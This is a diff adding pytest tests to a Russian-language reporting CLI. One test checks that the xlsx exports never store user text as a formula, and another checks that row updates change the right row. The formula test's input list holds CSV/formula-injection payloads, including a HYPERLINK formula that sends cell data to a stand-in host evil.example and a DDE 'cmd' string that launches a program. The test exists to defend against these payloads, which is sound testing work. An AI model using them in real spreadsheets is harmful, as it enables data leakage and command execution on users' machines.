@@ -83,3 +83,98 @@ def test_legacy_files_say_how_to_convert(
         assert ".docx" in err or ".xlsx" in err
     _, _, err = run(capsys, "import", str(folder / "encrypted.docx"))
     assert "парол" in err.lower()
+
+
+# --- every xlsx the product writes: hostile text never becomes a formula ----------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")', "+cmd|' /C calc'!A0", "-1+1",
+    "@SUM(1,2)", "\t=1+1", "\r=1+1", " =2+2", "＝3+3",
+]  # fmt: skip
+
+
+def _formula_cells(path: Path) -> list[str]:
+    """Every cell openpyxl reads as a formula, and every <f> element in the raw sheets."""
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    found = [
+        f"{ws.title}!{c.coordinate}"
+        for ws in load_workbook(path).worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
+    with zipfile.ZipFile(path) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/") and (
+                b"<f>" in z.read(name) or b"<f " in z.read(name)
+            ):
+                found.append(name)
+    return found
+
+
+def _texts(path: Path) -> list[str]:
+    from openpyxl import load_workbook
+
+    return [
+        str(c.value) for ws in load_workbook(path).worksheets for row in ws.iter_rows()
+        for c in row if c.value is not None
+    ]  # fmt: skip
+
+
+def test_no_xlsx_the_product_writes_holds_a_formula(
+    capsys: pytest.CaptureFixture[str], data_dir: Path, tmp_path: Path
+) -> None:
+    from cxdesk.io.findings_writer import write_findings
+
+    for i, text in enumerate(FORMULAS):
+        assert run(capsys, "new", "szn_pilot", f"--org={text}")[0] == 0
+        code, _, err = run(
+            capsys, "set", str(i + 1), "1", f"--result={text}", f"--responsible={text}"
+        )
+        assert code == 0, err
+    written = []
+    for pid in range(1, len(FORMULAS) + 1):
+        out = tmp_path / f"план{pid}.xlsx"
+        code, _, err = run(capsys, "export", str(pid), "-o", str(out))
+        assert code == 0, err
+        written.append(out)
+    summary = tmp_path / "сводка.xlsx"
+    assert run(capsys, "summary", "-o", str(summary))[0] == 0
+    audit = tmp_path / "замечания.xlsx"
+    assert run(capsys, "audit", "1", "-o", str(audit))[0] == 0
+    findings = tmp_path / "список.xlsx"
+    rows = [{"item": t, "problem_ru": t, "detail": t} for t in FORMULAS]
+    write_findings(rows, FORMULAS[0], findings)
+    written += [summary, audit, findings]
+    for path in written:
+        assert _formula_cells(path) == [], path.name
+    texts = set(_texts(summary)) | set(_texts(findings)) | set(_texts(written[0]))
+    # the words are kept (only XML-illegal characters would be dropped)
+    assert {FORMULAS[0], "-1+1", "@SUM(1,2)", "\t=1+1"} <= texts
+    from openpyxl import load_workbook
+
+    ws = load_workbook(findings).active
+    prefixed = [c.quotePrefix for row in ws.iter_rows(min_row=4) for c in row[1:2]]
+    assert all(prefixed) and len(prefixed) == len(FORMULAS)
+
+
+def test_set_echoes_the_row_it_changed(capsys: pytest.CaptureFixture[str], data_dir: Path) -> None:
+    import json
+
+    from .helpers import all_answers, answer_args
+
+    answers = answer_args(all_answers("region", True))
+    assert run(capsys, "new", "region", "--org", "Область", *answers)[0] == 0
+    rows = json.loads(run(capsys, "show", "1", "--json")[1])["rows"]
+    numbers = {r["number"]: r["id"] for r in rows if r["kind"] == "item"}
+    shown = {r["number"].rstrip(".") for r in rows}
+    # row ids and shown numbers overlap: an id read back as a number names another row
+    clash = [n for n, rid in numbers.items() if str(rid) in shown]
+    assert clash
+    for number in clash[:5]:
+        code, out, err = run(capsys, "set", "1", number, "--status", "done", "--json")
+        assert code == 0, err
+        assert json.loads(out) == {"id": numbers[number], "status": "done"}
